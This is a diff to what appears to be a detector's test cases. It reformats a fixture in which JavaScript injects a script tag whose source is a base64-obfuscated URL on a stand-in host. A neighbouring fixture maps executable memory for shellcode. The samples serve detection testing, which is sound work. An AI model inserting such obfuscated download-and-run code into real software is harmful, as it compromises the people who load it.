@@ -50,7 +50,10 @@ def told(path: str, text: str) -> set[str]:
         ("a.py", "import mmap\nm = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE, 7)", _SHELLCODE),
         (
             "a.js",
-            "const s = document.createElement('script');\ns.src = atob('aHR0cHM6Ly9sZWZ0LmV4YW1wbGUvYS5qcw==');",
+            (
+                "const s = document.createElement('script');\n"
+                "s.src = atob('aHR0cHM6Ly9sZWZ0LmV4YW1wbGUvYS5qcw==');"
+            ),
             "download-and-run left.example -> script",
         ),
         (
